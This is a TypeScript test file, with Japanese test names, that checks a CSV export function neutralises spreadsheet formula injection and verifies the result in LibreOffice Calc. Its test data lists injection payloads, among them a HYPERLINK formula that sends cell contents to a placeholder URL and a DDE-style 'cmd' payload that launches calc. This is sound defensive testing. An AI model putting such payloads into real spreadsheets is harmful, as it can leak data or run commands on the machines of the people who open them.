import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetCsv } from './csv-export.js';
import { csvToXlsx } from './testing/libreoffice.js';

const hostile = [
  '=HYPERLINK("http://x/?"&A1)',
  "+cmd|' /C calc'!A0",
  '-1+2',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

describe('書き出す CSV（数式として実行されない）', () => {
  it("= + - @・タブ・CR で始まる文字の欄には「'」を付け、数は負の数も数のまま書く", () => {
    const text = spreadsheetCsv([hostile, ['ふつう', 'a,b', '改行\nあり', '＊', -3, 0, 12]]).toString('utf8');
    expect(text).toBe(
      '\ufeff' +
        `"'=HYPERLINK(""http://x/?""&A1)",'+cmd|' /C calc'!A0,'-1+2,'@SUM(1+1),'\t=1+1,"'\r=1+1"\r\n` +
        'ふつう,"a,b","改行\nあり",＊,-3,0,12\r\n',
    );
  });

  describe('LibreOffice Calc で開く', () => {
    let out: string;
    beforeAll(async () => {
      out = await mkdtemp(join(tmpdir(), 'kasane-csv-'));
    });
    afterAll(async () => rm(out, { recursive: true, force: true }));

    it("「'」を付けた欄は文字として表示され、数は数として読まれる（付けない =1+1 は数式になる）", async () => {
      const written = spreadsheetCsv([hostile.slice(0, 4), ['-3', -3, 7]]);
      // A line written without neutralising, to show what Calc would have done with the same text.
      const unsafe = Buffer.from('=1+1,-1+2\r\n', 'utf8');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(
        (await readFile(await csvToXlsx(Buffer.concat([written, unsafe]), out))) as unknown as ArrayBuffer,
      );
      const sheet = book.worksheets[0];
      const cell = (row: number, column: number) => sheet?.getRow(row).getCell(column);
      hostile.slice(0, 4).forEach((text, i) => {
        expect(cell(1, i + 1)?.type).toBe(ExcelJS.ValueType.String);
        expect(cell(1, i + 1)?.value).toBe(`'${text}`);
      });
      expect(cell(2, 1)?.value).toBe("'-3");
      expect(cell(2, 2)?.value).toBe(-3);
      expect(cell(2, 3)?.value).toBe(7);
      expect(cell(3, 1)?.type).toBe(ExcelJS.ValueType.Formula);
      expect(cell(3, 1)?.formula).toBe('1+1');
    }, 120_000);
  });
});
